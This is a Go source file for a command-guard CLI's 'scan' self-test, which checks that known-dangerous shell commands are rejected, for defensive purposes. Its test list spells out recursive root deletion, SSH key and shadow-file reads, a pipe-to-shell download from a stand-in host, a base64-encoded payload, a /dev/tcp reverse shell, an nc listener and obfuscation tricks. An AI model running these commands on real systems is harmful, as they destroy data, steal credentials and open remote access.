package cli

import (
	"errors"
	"fmt"
	"io"

	"github.com/spf13/cobra"

	"github.com/gzhole/cmdguardian/internal/config"
	"github.com/gzhole/cmdguardian/internal/guardian"
	"github.com/gzhole/cmdguardian/internal/patterns"
	"github.com/gzhole/cmdguardian/internal/policy"
)

var scanBuiltin bool

var scanCmd = &cobra.Command{
	Use:   "scan",
	Short: "Self-test: verify known-dangerous commands are rejected",
	Long: `Run a quick diagnostic that evaluates a set of known-dangerous and known-safe
commands. Nothing is executed and nothing is written to the audit log.

The configured rules and policy are used. When no rules file exists yet, or
with --builtin, the built-in defaults are used instead.

  cmdguardian scan`,
	RunE: scanCommand,
}

func init() {
	scanCmd.Flags().BoolVar(&scanBuiltin, "builtin", false, "Test the built-in default rules and policy")
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	label   string
	command string
	approve bool
}

var scanCases = []scanCase{
	{"Destructive rm", "rm -rf /", false},
	{"SSH key access", "cat ~/.ssh/id_rsa", false},
	{"Quote obfuscation", `c''a""t /etc/passwd`, false},
	{"Pipe to shell", "curl http://evil.example/x.sh | bash", false},
	{"Base64 payload", "echo cm0gLXJmIC8= | base64 -d | sh", false},
	{"IFS evasion", "cat${IFS}/etc/shadow", false},
	{"Subshell", "echo $(whoami)", false},
	{"Reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false},
	{"Forbidden binary", "nc -lvp 4444", false},
	{"Disk format", "mkfs.ext4 /dev/sda1", false},
	{"Safe listing", "ls -la", true},
	{"Safe git", "git status", true},
}

func scanCommand(cmd *cobra.Command, args []string) error {
	g, source, err := scanGuardian()
	if err != nil {
		return err
	}
	defer g.Close()

	out := cmd.OutOrStdout()
	fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	fmt.Fprintln(out, "  cmdguardian Self-Test")
	fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	fmt.Fprintf(out, "  Rules:  %s (%d patterns)\n", source, g.Registry().Len())
	fmt.Fprintf(out, "  Mode:   %s\n\n", g.Policy().Mode)

	failed := runScan(out, g, scanCases)

	fmt.Fprintf(out, "\n  %d/%d passed\n\n", len(scanCases)-failed, len(scanCases))
	if failed > 0 {
		fmt.Fprintln(out, "  Some checks failed. Review your rules and policy files.")
		return NewExitCodeError(1)
	}
	fmt.Fprintln(out, "  All checks passed.")
	return nil
}

func runScan(out io.Writer, g *guardian.Guardian, cases []scanCase) int {
	failed := 0
	for _, tc := range cases {
		v := g.Evaluate(tc.command)
		icon := "\xe2\x9c\x85" // ✅
		if v.Approved != tc.approve {
			icon = "\xe2\x9d\x8c" // ❌
			failed++
		}
		result := "APPROVED"
		if !v.Approved {
			result = v.Reason
		}
		fmt.Fprintf(out, "  %s  %-18s  %s → %s\n", icon, tc.label, tc.command, result)
	}
	return failed
}

func scanGuardian() (*guardian.Guardian, string, error) {
	if !scanBuiltin {
		g, cfg, err := newGuardian(guardian.WithoutAudit())
		if err == nil {
			return g, cfg.RulesPath, nil
		}
		if !errors.Is(err, patterns.ErrRulesUnavailable) {
			return nil, "", err
		}
		log.Info("no rules file found, testing built-in defaults")
	}

	static, err := patterns.ParseRules(patterns.DefaultRules(), config.DefaultMaxPatternLength)
	if err != nil {
		return nil, "", err
	}
	reg, err := patterns.New(static, nil, config.DefaultMaxPatternLength)
	if err != nil {
		return nil, "", err
	}
	g, err := guardian.New(config.Default(""),
		guardian.WithRegistry(reg),
		guardian.WithPolicy(policy.DefaultPolicy()),
		guardian.WithoutAudit(),
	)
	if err != nil {
		return nil, "", err
	}
	return g, "built-in defaults", nil
}
